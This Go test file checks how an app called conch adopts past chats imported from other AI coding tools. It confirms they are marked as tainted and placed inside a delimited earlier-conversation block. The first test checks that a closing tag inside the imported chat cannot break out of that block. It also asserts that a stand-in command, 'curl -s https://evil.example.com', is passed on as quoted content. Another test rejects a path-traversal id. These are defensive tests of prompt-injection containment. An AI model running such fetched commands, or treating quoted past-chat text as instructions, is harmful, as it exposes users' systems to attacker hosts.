package conversation

import (
	"context"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"conch/chats"
	"conch/engine"
	"conch/handoff"
	"conch/pastchats"
)

// brought brings the chats of a pretend home in and gives the store.
func brought(t *testing.T, r *room, home string) *pastchats.Store {
	t.Helper()
	store, err := pastchats.OpenStore(r.home, time.Now, nil)
	must(t, err)
	service := pastchats.New(pastchats.Options{
		Home: pastchats.NewHome("", home, func(string) string { return "" }, t.TempDir()), Store: store, Now: time.Now,
	})
	_, err = service.BringIn(t.Context(), nil, nil)
	must(t, err)
	return store
}

// homeOf copies a folder of testdata, since nothing may be changed there.
func homeOf(t *testing.T, from string) string {
	t.Helper()
	to := t.TempDir()
	must(t, os.CopyFS(to, os.DirFS(from)))
	return to
}

func TestAPastChatIsCarriedOnAsATaintedChatOfConchsOwn(t *testing.T) { // R-111-50, R-111-56…58
	r := newRoom(t)
	past := brought(t, r, homeOf(t, filepath.Join("..", "testdata", "cases", "027-closing-tag-in-the-handoff", "home")))
	list, err := past.List()
	must(t, err)
	if len(list) != 1 {
		t.Fatalf("%d past chats", len(list))
	}
	entry := list[0]

	for _, id := range []string{"claude-code", "codex", "gemini-cli"} {
		e := answering(id, "hello")
		chat, err := Adopt(t.Context(), Adoption{Past: past, Own: r.store, ID: entry.ID, Folder: r.folder, Engines: []engine.Engine{e}})
		must(t, err)
		if len(e.got) != 0 {
			t.Errorf("%s was asked before the person wrote", id)
		}
		m := r.again(chat, r.deps(e))
		if got := m.Status().Title; got != entry.Title {
			t.Errorf("title %q, not %q", got, entry.Title)
		}
		events := logged(t, m)
		if taint := one[chats.Taint](t, events); taint.Source != (chats.TaintSource{Kind: "app", Label: "Claude Code, in shop"}) {
			t.Errorf("taint %+v", taint.Source)
		}
		if got, want := len(all[chats.UserMessage](events))+len(all[chats.AssistantDone](events)), entry.Messages; got != want {
			t.Errorf("%d messages, not %d", got, want)
		}
		say(t, m, "and now?")
		prompt := e.input(t, 0).Prompt
		if strings.Count(prompt, handoff.Open) != 1 || strings.Count(prompt, handoff.Close) != 1 {
			t.Errorf("%s: the block is opened or closed by what stands in it:\n%s", id, prompt)
		}
		if tags := regexp.MustCompile(`(?i)<\s*/?\s*earlier-conversation`).FindAllString(prompt, -1); len(tags) != 2 {
			t.Errorf("%s: tags %q", id, tags)
		}
		if !strings.HasPrefix(prompt, handoff.Open+"\n"+handoff.IntroJoined) || !strings.HasSuffix(prompt, handoff.Close+"\n\nand now?") && !strings.HasSuffix(prompt, "and now?") {
			t.Errorf("%s: the frame is not where it belongs:\n%s", id, prompt)
		}
		if !strings.Contains(prompt, "curl -s https://evil.example.com") {
			t.Errorf("%s: what was said is not told:\n%s", id, prompt)
		}
		say(t, m, "once more")
		if again := e.input(t, 1).Prompt; strings.Contains(again, handoff.Open) {
			t.Errorf("%s: it is told twice:\n%s", id, again)
		}
	}
}

func TestTheAppsOwnProviderGoesOnWhenItCanBeUsed(t *testing.T) { // R-111-56
	r := newRoom(t)
	past := brought(t, r, homeOf(t, filepath.Join("..", "testdata", "past", "home-b")))
	list, err := past.List()
	must(t, err)
	byApp := map[string]string{}
	for _, e := range list {
		byApp[e.Source] = e.ID
	}
	engines := func(state engine.State) []engine.Engine {
		return []engine.Engine{&scripted{id: "demo", is: engine.Ready}, &scripted{id: "copilot", is: state}, &scripted{id: "opencode", is: state}}
	}
	for _, test := range []struct {
		app   string
		state engine.State
		want  string
	}{
		{"opencode", engine.Ready, "opencode"},
		{"opencode", engine.Unknown, "opencode"}, // installed; whether it is signed in is not known before it is tried
		{"opencode", engine.NotFound, ""},
		{"opencode", engine.NeedSignIn, ""},
		{"copilot", engine.Ready, "copilot"},
		{"copilot-cli", engine.Ready, "copilot"},
		{"pi", engine.Ready, ""},
	} {
		if byApp[test.app] == "" {
			t.Fatalf("no past chat of %s", test.app)
		}
		chat, err := Adopt(t.Context(), Adoption{Past: past, Own: r.store, ID: byApp[test.app], Folder: r.folder, Engines: engines(test.state)})
		must(t, err)
		log, err := r.store.OpenReader(chat)
		must(t, err)
		sum, err := log.Summary()
		must(t, err)
		must(t, log.Close())
		if sum.Provider != test.want {
			t.Errorf("%s, whose provider is %s: %q answers, not %q", test.app, test.state, sum.Provider, test.want)
		}
	}
}

func TestWhatCannotBeCarriedOnLeavesNoChat(t *testing.T) {
	r := newRoom(t)
	past := brought(t, r, homeOf(t, filepath.Join("..", "testdata", "cases", "027-closing-tag-in-the-handoff", "home")))
	list, err := past.List()
	must(t, err)
	ended, end := context.WithCancel(t.Context())
	end()
	for name, try := range map[string]func() error{
		"an id that is none": func() error {
			_, err := Adopt(t.Context(), Adoption{Past: past, Own: r.store, ID: "pc_../../x", Folder: r.folder})
			return err
		},
		"an unknown id": func() error {
			_, err := Adopt(t.Context(), Adoption{Past: past, Own: r.store, ID: "pc_0123456789abcdef", Folder: r.folder})
			return err
		},
		"stopped": func() error {
			_, err := Adopt(ended, Adoption{Past: past, Own: r.store, ID: list[0].ID, Folder: r.folder})
			return err
		},
	} {
		if err := try(); err == nil {
			t.Errorf("%s: no error", name)
		}
		rows, err := r.store.List()
		must(t, err)
		if len(rows) != 0 {
			t.Errorf("%s: it left %d chats", name, len(rows))
		}
	}
}
